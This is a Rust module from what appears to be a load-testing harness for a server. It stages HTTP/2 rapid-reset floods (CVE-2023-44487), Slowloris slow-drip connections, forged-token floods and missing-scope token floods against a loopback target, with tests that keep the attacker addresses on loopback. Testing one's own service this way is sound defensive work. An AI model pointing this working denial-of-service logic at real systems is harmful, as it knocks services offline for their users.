//! The attacks, each from loopback addresses of its own.
//!
//! Sources: CVE-2023-44487 (rapid reset), RFC 9113 §6.4; slow heads and bodies; threats E1, E8, E9, E13.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use portcullis_testkit::TokenKey;
use portcullis_testkit::frames;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use crate::Outcome;
use crate::load::h1::{self, Stream};
use crate::load::{self, Pace, Shape, Target};
use crate::process;
use crate::world::{self, World};

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Streams that are opened and reset at once.
    RapidReset,
    /// Connections that send a byte of a head or of a body now and then.
    Slowloris,
    /// Tokens that look right and whose signatures are wrong, each another one.
    GarbageToken,
    /// Good tokens without the scope that is needed.
    Refusals,
}

/// Addresses that requests of a flood come from.
const SOURCES: u8 = 4;
/// Share of the peak that they send together.
const SHARE: f64 = 0.3;
/// Different forged tokens.
const FORGED: usize = 2_000;
/// Slow connections, and the time between two bytes of each.
const SLOW: u8 = 150;
const DRIP: Duration = Duration::from_millis(250);
/// Streams of one burst, and the time between two bursts of a connection.
const BURST: u32 = 50;
const BEAT: Duration = Duration::from_millis(10);
/// Connections that reset streams.
const RESETTERS: u8 = 8;

impl Attack {
    pub(crate) const ALL: [Self; 4] = [Self::RapidReset, Self::Slowloris, Self::GarbageToken, Self::Refusals];

    pub(crate) fn word(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::Slowloris => "slowloris",
            Self::GarbageToken => "garbage-token",
            Self::Refusals => "refusals",
        }
    }

    /// Starts it on threads that end by themselves, at the latest after `span`, and give how much they sent.
    pub(crate) fn start(
        self,
        good: &Target,
        peak: f64,
        world: &World,
        span: Duration,
        over: &Arc<AtomicBool>,
    ) -> Outcome<Vec<JoinHandle<u64>>> {
        let tokens = match self {
            Self::RapidReset => return Ok(vec![raw(good, world, "h2", resetters, span, over)?]),
            Self::Slowloris => return Ok(vec![raw(good, world, "http/1.1", slow, span, over)?]),
            Self::GarbageToken => forged(),
            Self::Refusals => world.bad_token("a missing scope").into_iter().collect(),
        };
        let target = Target {
            tls: Some(world.client_config("http/1.1")?),
            paths: Arc::new(vec!["/orders/7".to_owned(); tokens.len()]),
            tokens: Arc::new(tokens),
            shape: Shape::KeepAlive(8),
            ..good.clone()
        };
        (0..SOURCES).map(|source| flood(&target, source, peak * SHARE / f64::from(SOURCES), span)).collect()
    }
}

fn forged() -> Vec<String> {
    let key = TokenKey::es256("bench");
    (0..FORGED).map(|user| key.access_token(&world::claims(user))).collect()
}

fn flood(target: &Target, source: u8, rate: f64, span: Duration) -> Outcome<JoinHandle<u64>> {
    let target = Target { source: Some(address(0, source)), ..target.clone() };
    let work = move || {
        let found = load::run(&target, Pace::Open(rate), span);
        found.map_or(0, |found| found.tally.good + found.tally.failed)
    };
    spawn(work)
}

fn spawn(work: impl FnOnce() -> u64 + Send + 'static) -> Outcome<JoinHandle<u64>> {
    std::thread::Builder::new().name("attack".to_owned()).spawn(work).map_err(|e| e.to_string())
}

/// Never the address of good callers.
fn address(group: u8, number: u8) -> Ipv4Addr {
    Ipv4Addr::new(127, 0, 1 + group, 1 + number)
}

/// When an attack is over.
#[derive(Clone)]
struct Until {
    end: Instant,
    over: Arc<AtomicBool>,
}

impl Until {
    fn reached(&self) -> bool {
        self.over.load(Ordering::Relaxed) || Instant::now() >= self.end
    }
}

/// Attackers that speak bytes of their own, on one thread.
fn raw(
    good: &Target,
    world: &World,
    alpn: &str,
    attackers: fn(&Target, &Until) -> JoinSet<u64>,
    span: Duration,
    over: &Arc<AtomicBool>,
) -> Outcome<JoinHandle<u64>> {
    let target = Target { tls: Some(world.client_config(alpn)?), ..good.clone() };
    let until = Until { end: Instant::now() + span, over: Arc::clone(over) };
    let work = move || {
        process::stay_on_core(0);
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
        let Ok(runtime) = runtime else { return 0 };
        runtime.block_on(async {
            let mut set = attackers(&target, &until);
            let all = async {
                let mut sum = 0;
                while let Some(sent) = set.join_next().await {
                    sum += sent.unwrap_or_default();
                }
                sum
            };
            let patience = until.end.saturating_duration_since(Instant::now()) + Duration::from_secs(5);
            tokio::time::timeout(patience, all).await.unwrap_or_default()
        })
    };
    spawn(work)
}

fn resetters(target: &Target, until: &Until) -> JoinSet<u64> {
    let mut set = JoinSet::new();
    for number in 0..RESETTERS {
        let target = Target { source: Some(address(1, number)), ..target.clone() };
        set.spawn(reset_for_ever(target, until.clone()));
    }
    set
}

/// Comes back whenever it is thrown out.
async fn reset_for_ever(target: Target, until: Until) -> u64 {
    let mut sent = 0;
    while !until.reached() {
        if let Ok(stream) = h1::connect(&target).await {
            sent += reset(stream, &until).await;
        }
        tokio::time::sleep(BEAT).await;
    }
    sent
}

async fn reset(mut stream: Box<dyn Stream>, until: &Until) -> u64 {
    let (mut next, mut sent) = (1, 0);
    let mut out = frames::hello();
    let mut dropped = [0_u8; 4096];
    while !until.reached() {
        for _ in 0..BURST {
            out.extend(frames::get(next, "localhost", "/orders/7"));
            out.extend(frames::reset(next, 8));
            next += 2;
        }
        if stream.write_all(&out).await.is_err() || stream.flush().await.is_err() {
            return sent;
        }
        out.clear();
        sent += u64::from(BURST);
        // What comes back is read for one beat and not looked at.
        if let Ok(Ok(0) | Err(_)) = tokio::time::timeout(BEAT, stream.read(&mut dropped)).await {
            return sent;
        }
    }
    sent
}

fn slow(target: &Target, until: &Until) -> JoinSet<u64> {
    let mut set = JoinSet::new();
    for number in 0..SLOW {
        let target = Target { source: Some(address(2, number)), ..target.clone() };
        set.spawn(drip_for_ever(target, number, until.clone()));
    }
    set
}

async fn drip_for_ever(target: Target, number: u8, until: Until) -> u64 {
    let mut sent = 0;
    while !until.reached() {
        if let Ok(stream) = h1::connect(&target).await {
            sent += drip(stream, &target, number, &until).await;
        }
        tokio::time::sleep(DRIP).await;
    }
    sent
}

/// Even numbers are slow with the head, odd ones with a body of a good request.
async fn drip(mut stream: Box<dyn Stream>, target: &Target, number: u8, until: &Until) -> u64 {
    let mut sent = 0;
    if number.is_multiple_of(2) {
        let _ = stream.write_all(b"GET /orders/7 HTTP/1.1\r\nhost: localhost\r\nx-slow: ").await;
    } else {
        let up = Target { bodies: (1 << 20, None), ..target.clone() };
        let _ = stream.write_all(&load::prepared::head(&up, 0, "")).await;
    }
    while !until.reached() {
        if stream.write_all(b"x").await.is_err() || stream.flush().await.is_err() {
            return sent;
        }
        sent += 1;
        tokio::time::sleep(DRIP).await;
    }
    sent
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_attacker_has_the_address_of_good_callers() {
        let all = (0..3).flat_map(|group| (0..SLOW).map(move |number| address(group, number)));
        assert!(all.into_iter().all(|address| address.is_loopback() && address != Ipv4Addr::LOCALHOST));
    }

    #[test]
    fn an_attack_is_over_when_it_is_told_or_its_time_is_up() {
        let over = Arc::new(AtomicBool::new(false));
        let until = Until { end: Instant::now() + Duration::from_secs(60), over: Arc::clone(&over) };
        assert!(!until.reached());
        over.store(true, Ordering::Relaxed);
        assert!(until.reached());
        assert!(Until { end: Instant::now(), over: Arc::default() }.reached());
    }
}
